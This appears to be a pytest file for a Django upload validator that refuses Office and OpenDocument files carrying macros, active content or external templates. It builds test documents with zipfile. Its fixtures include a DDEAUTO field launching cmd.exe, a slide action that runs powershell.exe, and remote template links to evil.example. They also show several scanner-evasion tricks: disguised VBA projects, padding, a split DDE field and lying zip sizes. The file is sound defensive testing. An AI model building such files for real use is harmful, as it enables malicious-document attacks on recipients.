"""Macros, active content and links to templates or objects elsewhere are refused wherever they sit in an
Office or OpenDocument file (the bypasses of the security review, each built here with zipfile); ordinary
documents, with hyperlinks, fields, embedded objects and large pictures, still pass."""

import io
import os
import struct
import time
import warnings
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from toptechniek.common import uploads
from toptechniek.common.uploads import detect_type

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_TYPES = {
    "document": f"{R}/officeDocument",
    "hyperlink": f"{R}/hyperlink",
    "image": f"{R}/image",
    "oleObject": f"{R}/oleObject",
    "frame": f"{R}/frame",
    "subDocument": f"{R}/subDocument",
    "attachedTemplate": f"{R}/attachedTemplate",
    "settings": f"{R}/settings",
    "package": f"{R}/package",
    "vbaProject": "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
}
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _zip(entries, *, stored_first=False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            data = data.encode() if isinstance(data, str) else data
            compress = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=compress)
    return out.getvalue()


def _compound_file(*names: str) -> bytes:
    """A compound (OLE) file's header and one directory sector with these entry names, as Office writes them."""
    header = uploads.OLE_SIGNATURE + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 480
    directory = b""
    for name in ("Root Entry", *names):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory += encoded.ljust(64, b"\x00") + len(encoded).to_bytes(2, "little") + b"\x01" * 2 + b"\x00" * 60
    return header + directory.ljust(512 * ((len(directory) + 511) // 512), b"\x00") + b"\x00" * 512


VBA_PROJECT = _compound_file("VBA", "dir", "Module1", "_VBA_PROJECT", "PROJECT")
EQUATION = _compound_file("\x01CompObj", "Equation Native", "\x01Ole")


def _rels(*relationships) -> str:
    """(Id, type, target[, "External"]) each."""
    rows = "".join(
        f'<Relationship Id="{rel[0]}" Type="{REL_TYPES.get(rel[1], rel[1])}" Target="{rel[2]}"'
        + (f' TargetMode="{rel[3]}"' if len(rel) > 3 else "")
        + "/>"
        for rel in relationships
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
    )


def _content_types(*extra: str, padding: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>' + padding + "".join(extra) + "</Types>"
    )


def _document(body: str = "<w:p><w:r><w:t>Jaarplan</w:t></w:r></w:p>") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    )


def docx(*, content_types=None, document=None, document_rels=None, extra=()) -> bytes:
    entries = [
        ("[Content_Types].xml", content_types or _content_types()),
        ("_rels/.rels", _rels(("rId1", "document", "word/document.xml"))),
        ("word/document.xml", document or _document()),
    ]
    if document_rels is not None:
        entries.append(("word/_rels/document.xml.rels", document_rels))
    return _zip([*entries, *extra])


def odt(*extra, content=None, manifest_entries="") -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    namespaces = (
        f'xmlns:office="{office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    body = content or "<text:p>Notulen</text:p>"
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{manifest_entries}</manifest:manifest>"
    )
    return _zip(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {namespaces}>'
                f"<office:scripts/><office:body><office:text>{body}</office:text></office:body>"
                "</office:document-content>",
            ),
            ("META-INF/manifest.xml", manifest),
            *extra,
        ],
        stored_first=True,
    )


def pptx(slide: str, slide_rels: str) -> bytes:
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types().replace(
                    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>',
                    '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-'
                    'officedocument.presentationml.presentation.main+xml"/>',
                ),
            ),
            ("_rels/.rels", _rels(("rId1", "document", "ppt/presentation.xml"))),
            ("ppt/presentation.xml", f'<p:presentation xmlns:p="{p}"/>'),
            ("ppt/slides/slide1.xml", f'<p:sld xmlns:p="{p}" xmlns:a="{a}" xmlns:r="{R}">{slide}</p:sld>'),
            ("ppt/slides/_rels/slide1.xml.rels", slide_rels),
        ]
    )


def refused(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        detect_type(SimpleUploadedFile("bijlage.docx", data))
    return info.value


def accepted(data: bytes) -> str:
    return detect_type(SimpleUploadedFile("bijlage.docx", data)).key


HYPERLINK_DOCUMENT = _document(
    '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>Toptechniek</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Inhoud</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


# -- macros wherever they sit --------------------------------------------------------------------------------


MACROS = {
    # The review's bypasses.
    "vba project renamed word/evil.bin": docx(extra=[("word/evil.bin", VBA_PROJECT)]),
    "vba project declared as an embedded object": docx(
        content_types=_content_types(
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        ),
        extra=[("word/embeddings/oleObject1.bin", VBA_PROJECT)],
    ),
    "vbaProject content type under another name": docx(
        content_types=_content_types(
            '<Override PartName="/word/media/image9.png" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        extra=[("word/media/image9.png", b"\x89PNG\r\n\x1a\n")],
    ),
    "vbaData content type": docx(
        content_types=_content_types(
            '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
        ),
    ),
    "vbaProject relationship in the document's rels": docx(
        document_rels=_rels(("rId9", "vbaProject", "media/image1.png")),
        extra=[("word/media/image1.png", b"\x89PNG\r\n\x1a\n")],
    ),
    "vbaProject relationship in any rels": docx(
        extra=[("customXml/_rels/item1.xml.rels", _rels(("rId1", "vbaProject", "../word/x.bin")))],
    ),
    "content types padded past 2 MB, then a vba project": docx(
        content_types=_content_types(
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            padding=" " * 1_000_000 + "<!--" + "x" * 1_000_000 + "-->",
        ),
    ),
    "content type spelled with a character reference": docx(
        content_types=_content_types(
            '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.&#118;baProject"/>'
        ),
    ),
    "macro-enabled main part (docm)": docx(
        content_types=_content_types().replace(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "activeX control": docx(
        content_types=_content_types(
            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        ),
    ),
    "excel 4 macro sheet": docx(
        content_types=_content_types(
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        ),
    ),
    "compound file under a picture's name": docx(extra=[("word/media/image1.png", VBA_PROJECT)]),
    "DDEAUTO field": docx(
        document=_document(
            '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>'
        )
    ),
    "DDE field split over runs": docx(
        document=_document(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText></w:r>'
            '<w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText>TO cmd "/c calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    ),
    "workbook with a macro project nested in a document": docx(
        content_types=_content_types(
            '<Default Extension="xlsx" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
        ),
        document_rels=_rels(("rId7", "package", "embeddings/Werkblad1.xlsx")),
        extra=[
            (
                "word/embeddings/Werkblad1.xlsx",
                _zip(
                    [
                        ("[Content_Types].xml", _content_types()),
                        ("xl/workbook.xml", "<workbook/>"),
                        ("xl/vbaProject.bin", VBA_PROJECT),
                    ]
                ),
            )
        ],
    ),
    "slide that runs a program on mouse-over": pptx(
        '<a:hlinkHover r:id="rId2" action="ppaction://program"/>',
        _rels(("rId2", "hyperlink", "powershell.exe", "External")),
    ),
    # OpenDocument.
    "odf macros in Object 1/Basic": odt(("Object 1/Basic/Standard/Module1.xml", "<script:module/>")),
    "odf macros in Basic": odt(("Basic/Standard/Module1.xml", "<script:module/>")),
    "odf python scripts": odt(("Scripts/python/run.py", "import os")),
    "odf script in the manifest only": odt(
        manifest_entries='<manifest:file-entry manifest:full-path="Skripte/a.bas" '
        'manifest:media-type="application/vnd.sun.star.basic-script"/>'
    ),
    "odf event listener calling a macro": odt(
        content='<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
        "</office:event-listeners><text:p>x</text:p>"
    ),
    "odf link that runs a macro": odt(
        content='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document">'
        "klik</text:a></text:p>"
    ),
    "odf inline office:script": odt(
        content='</office:text></office:body><office:scripts><office:script script:language="ooo:Basic">'
        "Sub Main</office:script></office:scripts><office:body><office:text><text:p>x</text:p>"
    ),
    "odf slide action that runs a program": odt(
        content='<draw:frame><office:event-listeners><presentation:event-listener script:event-name="dom:click" '
        'presentation:action="execute" xlink:href="cmd.exe"/></office:event-listeners></draw:frame>'
    ),
    "odf embedded compound file with a vba project": odt(("Object 2", VBA_PROJECT)),
}


@pytest.mark.parametrize("data", MACROS.values(), ids=MACROS.keys())
def test_macros_and_active_content_are_refused_wherever_they_sit(data):
    error = refused(data)
    assert error.code == "macros"
    assert "macros or other active content" in error.messages[0]


def test_the_macro_workbook_sample_is_still_refused():
    from toptechniek.common import samples

    assert refused(samples.xlsm_bytes()).code == "macros"


# -- templates and objects elsewhere -------------------------------------------------------------------------

SETTINGS = (
    f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
)


def _with_settings(settings_rels: str) -> bytes:
    return docx(
        content_types=_content_types(SETTINGS[1]),
        document_rels=_rels(("rId3", "settings", "settings.xml")),
        extra=[("word/settings.xml", SETTINGS[0]), ("word/_rels/settings.xml.rels", settings_rels)],
    )


EXTERNAL = {
    "remote attachedTemplate": _with_settings(
        _rels(("rId1", "attachedTemplate", "https://evil.example/t.dotm", "External"))
    ),
    "attachedTemplate on a share": _with_settings(
        _rels(("rId1", "attachedTemplate", "\\\\evil.example\\share\\t.dotm", "External"))
    ),
    "remote attachedTemplate without TargetMode": _with_settings(
        _rels(("rId1", "attachedTemplate", "http://evil.example/t.dotm"))
    ),
    "remote template disguised as a hyperlink": _with_settings(
        _rels(("rId1", "hyperlink", "https://evil.example/t.dotm", "External"))
    ),
    "external oleObject": docx(document_rels=_rels(("rId4", "oleObject", "http://evil.example/x.html!", "External"))),
    "external frame": docx(document_rels=_rels(("rId4", "frame", "https://evil.example/f.html", "External"))),
    "external subDocument": docx(document_rels=_rels(("rId4", "subDocument", "file://evil/s.docx", "External"))),
    "attachedTemplate as file://host": _with_settings(
        _rels(("rId1", "attachedTemplate", "file://evil.example/share/t.dotm", "External"))
    ),
    "attachedTemplate as file://// share": _with_settings(
        _rels(("rId1", "attachedTemplate", "file:////evil.example/share/t.dotm", "External"))
    ),
    "external oleObject on this computer": docx(
        document_rels=_rels(("rId4", "oleObject", "file:///C:/Users/Public/x.html", "External"))
    ),
    "linked picture elsewhere": docx(document_rels=_rels(("rId4", "image", "http://evil.example/p.png", "External"))),
    "odf object from another server": odt(
        content='<draw:frame><draw:object xlink:href="http://evil.example/obj" xlink:type="simple"/></draw:frame>'
    ),
    "odf picture on a share": odt(content='<draw:frame><draw:image xlink:href="\\\\evil\\pics\\a.png"/></draw:frame>'),
}


@pytest.mark.parametrize("data", EXTERNAL.values(), ids=EXTERNAL.keys())
def test_templates_and_objects_elsewhere_are_refused(data):
    error = refused(data)
    assert error.code == "external"
    assert "template or object on another server" in error.messages[0]


# -- what the checks must not break --------------------------------------------------------------------------


def _xlsx_with_hyperlink() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Toptechniek"
    workbook.active["A1"].hyperlink = "https://www.example.org/toptechniek"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


CLEAN = {
    "docx with a hyperlink elsewhere and fields": (
        "docx",
        docx(
            document=HYPERLINK_DOCUMENT,
            document_rels=_rels(("rId5", "hyperlink", "https://www.example.org/?a=1&amp;b=2", "External")),
        ),
    ),
    "docx with an embedded equation object": (
        "docx",
        docx(
            content_types=_content_types(
                '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
            ),
            document_rels=_rels(("rId6", "oleObject", "embeddings/oleObject1.bin")),
            extra=[("word/embeddings/oleObject1.bin", EQUATION)],
        ),
    ),
    "docx made from a template on this computer": (  # Word writes this for every document from a house template
        "docx",
        _with_settings(
            _rels(("rId1", "attachedTemplate", "file:///C:\\Users\\jan\\Templates\\Huisstijl.dotx", "External"))
        ),
    ),
    "docx with content types padded past 2 MB": (
        "docx",
        docx(content_types=_content_types(padding=" " * 2_000_000)),
    ),
    "xlsx with a hyperlink": ("xlsx", _xlsx_with_hyperlink()),
    "pptx with a hyperlink on click": (
        "pptx",
        pptx(
            '<a:hlinkClick r:id="rId2"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>',
            _rels(("rId2", "hyperlink", "https://www.example.org/", "External")),
        ),
    ),
    "odt with pictures, links and an empty settings file": (
        "odt",
        odt(
            ("Pictures/1.png", b"\x89PNG\r\n\x1a\n"),
            ("Configurations2/accelerator/current.xml", b""),
            ("Object 1/content.xml", '<office:document-content xmlns:office="urn:x"/>'),
            content='<text:p><text:a xlink:href="https://www.example.org/">site</text:a></text:p>'
            '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
            '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
            manifest_entries='<manifest:file-entry manifest:full-path="Pictures/1.png" '
            'manifest:media-type="image/png"/>',
        ),
    ),
}


@pytest.mark.parametrize(("key", "data"), CLEAN.values(), ids=CLEAN.keys())
def test_ordinary_documents_are_still_accepted(key, data):
    assert accepted(data) == key


def test_a_large_document_is_checked_whole_and_in_reasonable_time():
    picture = b"\x89PNG\r\n\x1a\n" + os.urandom(5 * 1024 * 1024)  # does not compress
    data = docx(
        document=_document('<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:embed="rId8"/></w:drawing></w:r></w:p>'),
        document_rels=_rels(("rId8", "image", "media/image1.png")),
        extra=[("word/media/image1.png", picture)],
    )
    assert len(data) > 5 * 1024 * 1024
    started = time.monotonic()
    assert accepted(data) == "docx"
    assert time.monotonic() - started < 5


# -- the zip-bomb guard refuses, it never skips the checks ---------------------------------------------------


def test_a_file_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ZIP_UNPACKED", 1024 * 1024)
    error = refused(docx(extra=[("word/media/image1.png", b"\x00" * (2 * 1024 * 1024))]))
    assert error.code == "too_complex"
    assert error.messages[0]


def test_a_file_with_too_many_parts_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ZIP_ENTRIES", 10)
    assert refused(docx(extra=[(f"word/media/image{i}.png", b"x") for i in range(10)])).code == "too_complex"


def test_packages_nested_too_deep_are_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_NESTING", 1)
    inner = _zip([("a.txt", "x")])
    middle = _zip([("inner.zip", inner)])
    assert refused(docx(extra=[("word/embeddings/x.bin", middle)])).code == "too_complex"


def test_two_parts_under_one_name_are_refused():
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("[Content_Types].xml", _content_types())
            archive.writestr("word/document.xml", _document())
            archive.writestr("Word/Document.xml", _document("<w:p/>"))  # part names ignore case
    assert refused(out.getvalue()).code == "damaged"


def _declare_size(data: bytes, member: str, size: int, crc: int) -> bytes:
    """The zip with `member`'s unpacked size and checksum changed in its local header and the directory."""
    data = bytearray(data)
    name = member.encode()
    for signature, crc_at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = data.find(signature)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", data, at + crc_at, crc)
                struct.pack_into("<I", data, at + crc_at + 8, size)
            at = data.find(signature, at + 4)
    return bytes(data)


def test_a_part_that_unpacks_to_more_than_it_declares_is_refused():
    # Read only as far as the declared size, the compound file's header passes and its VBA project is never seen.
    content_types = _content_types(
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    )
    data = docx(content_types=content_types, extra=[("word/embeddings/oleObject1.bin", VBA_PROJECT)])
    prefix = VBA_PROJECT[:512]
    lying = _declare_size(data, "word/embeddings/oleObject1.bin", len(prefix), zlib.crc32(prefix))
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert archive.read("word/embeddings/oleObject1.bin") == prefix  # what a reader that trusts the sizes sees
    assert refused(lying).code == "macros"  # all of it is read, whatever the zip says
    # A part that is harmless but longer than declared is refused too: what was checked is what gets opened.
    picture = b"\x89PNG\r\n\x1a\n" + b"\x00" * 4096
    data = docx(extra=[("word/media/image1.png", picture)])
    assert refused(_declare_size(data, "word/media/image1.png", 8, zlib.crc32(picture[:8]))).code == "damaged"


def test_a_dtd_in_a_part_is_refused():
    data = docx(
        content_types='<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY v "vba">]>' + _content_types().split("?>", 1)[1]
    )
    assert refused(data).code == "damaged"


def test_old_office_files_are_refused_with_a_reason():
    error = refused(_compound_file("WordDocument", "1Table", "Macros", "VBA", "_VBA_PROJECT"))
    assert error.code == "type"
    assert "(.doc, .xls, .ppt)" in error.messages[0]
